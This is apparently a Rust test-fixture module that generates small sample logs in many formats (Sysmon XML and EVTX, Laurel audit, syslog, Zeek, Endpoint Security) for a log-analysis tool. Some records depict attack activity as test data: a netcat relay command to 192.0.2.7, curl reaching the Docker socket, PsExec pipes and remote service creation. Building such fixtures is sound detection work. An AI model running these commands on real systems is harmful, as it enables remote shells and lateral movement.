//! Small logs of each format that can be read. The hosts are made up.

use backchannel_host::Format;
use backchannel_host::source::InputFormat;
use evtx_writer::{Data, Event, Value, Writer};

use crate::case;

/// A log.
#[derive(Clone, Debug)]
pub struct Log {
    /// What it is called: its format, and a number where there are several.
    pub name: String,
    /// Its format.
    pub format: InputFormat,
    /// Its bytes.
    pub bytes: Vec<u8>,
}

/// Logs of every format: the examples of the registry, those of some cases, others written here, and an event log file.
pub fn logs() -> Vec<Log> {
    let text = |format: Format, bytes: &str| Log {
        name: format.as_str().to_owned(),
        format: InputFormat::Text(format),
        bytes: bytes.as_bytes().to_vec(),
    };
    let mut logs = vec![
        text(Format::WindowsXml, XML),
        text(Format::Laurel, LAUREL),
        text(Format::Syslog, SYSLOG),
        text(Format::ZeekTsv, ZEEK_TSV),
        text(Format::EndpointSecurity, ENDPOINT_SECURITY),
        text(Format::Events, EVENTS),
        Log { name: "evtx".into(), format: InputFormat::Evtx, bytes: evtx(40) },
    ];
    for format in Format::ALL {
        let records: Vec<&str> = format.about().examples.iter().map(|example| example.record).collect();
        let (name, bytes) = (format!("{}-examples", format.as_str()), records.join("\n").into_bytes());
        logs.push(Log { name, format: InputFormat::Text(format), bytes });
    }
    for format in [Format::WindowsJson, Format::Auditd, Format::ZeekJson] {
        let cases = case::all();
        let mut of: Vec<_> = cases.iter().filter(|case| case.format() == format && case.past.is_none()).collect();
        // The longest tell the most; those of the same length by name.
        of.sort_by_cached_key(|case| std::cmp::Reverse(std::fs::metadata(&case.input).map_or(0, |of| of.len())));
        for (number, case) in of.iter().take(3).enumerate() {
            let bytes = std::fs::read(&case.input).expect("a case's log can be read");
            let name = format!("{}-{number}", format.as_str());
            logs.push(Log { name, format: InputFormat::Text(format), bytes });
        }
    }
    logs
}

/// An event log file of `records` records.
pub fn evtx(records: u64) -> Vec<u8> {
    let mut log = Writer::new();
    for record in 1..=records {
        let (event_id, data) = match record % 3 {
            0 => (17, Data::named([("PipeName", Value::text(r"\chat")), ("ProcessId", Value::U32(812))])),
            1 => (
                1,
                Data::named([
                    ("UtcTime", Value::text("2023-11-14 22:13:20.000")),
                    ("ProcessId", Value::U32(900 + record as u32)),
                    ("Image", Value::text(r"C:\Windows\System32\mmc.exe")),
                    ("CommandLine", Value::text("mmc.exe -Embedding")),
                    ("User", Value::text(r"EXAMPLE\erin")),
                    ("ParentImage", Value::text(r"C:\Windows\System32\svchost.exe")),
                ]),
            ),
            _ => (3, Data::named([("DestinationPort", Value::U16(135)), ("Initiated", Value::text("true"))])),
        };
        log.push(&Event {
            provider: "Microsoft-Windows-Sysmon",
            event_id,
            channel: "Microsoft-Windows-Sysmon/Operational",
            computer: "desk-4.example.org",
            time_ns: 1_700_000_000_000_000_000 + record as i64 * 1_000_000_000,
            record_id: record,
            data,
            ..Event::default()
        })
        .expect("it fits");
    }
    log.finish()
}

const XML: &str = r#"<Events>
<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Sysmon"/><EventID>17</EventID><TimeCreated SystemTime="2023-11-14T22:13:20.000000000Z"/><EventRecordID>7</EventRecordID><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>desk-4.example.org</Computer></System><EventData><Data Name="PipeName">\PSEXESVC</Data><Data Name="Image">C:\Windows\PSEXESVC.exe</Data><Data Name="ProcessId">812</Data></EventData></Event>
<Event><System><Provider Name="Microsoft-Windows-DistributedCOM"/><EventID Qualifiers="0">10016</EventID><TimeCreated SystemTime="2023-11-14T22:13:21.000000000Z"/><EventRecordID>8</EventRecordID><Channel>System</Channel><Computer>desk-4.example.org</Computer></System><EventData><Data Name="param1">application-specific</Data><Data Name="param2">Local</Data><Data Name="param3">Launch</Data><Data Name="param4">{0002DF01-0000-0000-C000-000000000046}</Data></EventData></Event>
</Events>
"#;

const LAUREL: &str = r#"{"ID":"1700000000.123:456","NODE":"app07","SYSCALL":{"arch":"0xc000003e","syscall":59,"success":"yes","exit":0,"ppid":1,"pid":77,"auid":1000,"uid":33,"comm":"sh","exe":"/usr/bin/dash"},"EXECVE":{"argc":3,"ARGV":["sh","-c","cat /tmp/q | nc 192.0.2.7 9001 > /tmp/q"]},"CWD":{"cwd":"/tmp"}}
{"ID":"1700000001.123:457","NODE":"app07","SYSCALL":{"arch":"0xc000003e","syscall":42,"success":"yes","exit":0,"ppid":77,"pid":78,"auid":1000,"uid":33,"comm":"curl","exe":"/usr/bin/curl"},"SOCKADDR":{"saddr":"01002F72756E2F646F636B65722E736F636B00","SADDR":{"saddr_fam":"local","path":"/run/docker.sock"}}}
"#;

const SYSLOG: &str = "Nov 14 22:13:20 app07 dbus-daemon[812]: [system] Activating via systemd: service name='org.example.Helper' unit='helper.service' requested by ':1.12' (uid=33 pid=900 comm=\"/usr/bin/busctl call\" label=\"unconfined\")
<38>Nov 14 22:13:21 app07 sudo: erin : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/id
<14>1 2023-11-14T22:13:22.003Z app07 sshd 4711 - - Accepted publickey for erin from 192.0.2.7 port 50000 ssh2
";

const ZEEK_TSV: &str = "#separator \\x09
#set_separator\t,
#empty_field\t(empty)
#unset_field\t-
#path\tdce_rpc
#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\trtt\tnamed_pipe\tendpoint\toperation
#types\ttime\tstring\taddr\tport\taddr\tport\tinterval\tstring\tstring\tstring
1700000000.000000\tC1\t192.0.2.7\t50000\t192.0.2.8\t445\t0.001\t\\\\pipe\\\\svcctl\tsvcctl\tCreateServiceW
1700000001.000000\tC2\t192.0.2.7\t50001\t192.0.2.8\t135\t-\t135\tIRemoteSCMActivator\tRemoteCreateInstance
#close\t2023-11-14-22-14-00
";

const ENDPOINT_SECURITY: &str = r#"{"time":"2023-11-14T22:13:20.5Z","event_type":9,"global_seq_num":31,"process":{"audit_token":{"pid":400,"ruid":501,"euid":0},"ppid":1,"executable":{"path":"/opt/tool"}},"event":{"exec":{"target":{"audit_token":{"pid":401,"ruid":501,"euid":0},"ppid":400,"executable":{"path":"/bin/sh"}},"args":["sh","-c","id"]}}}
{"time":"2023-11-14T22:13:21.5Z","event_type":128,"process":{"audit_token":{"pid":401,"ruid":501,"euid":0},"ppid":1,"executable":{"path":"/opt/tool"}},"event":{"xpc_connect":{"service_name":"org.example.helper","service_domain_type":1}}}
"#;

const EVENTS: &str = r#"{"time":1700000000000000000,"host":"h1","activity":"process_start","process":{"image":"/usr/bin/id","pid":7}}
{"time":1700000001000000000,"host":"h2","activity":"process_start","process":{"image":"/bin/sh","command_line":"sh -c id"}}
"#;
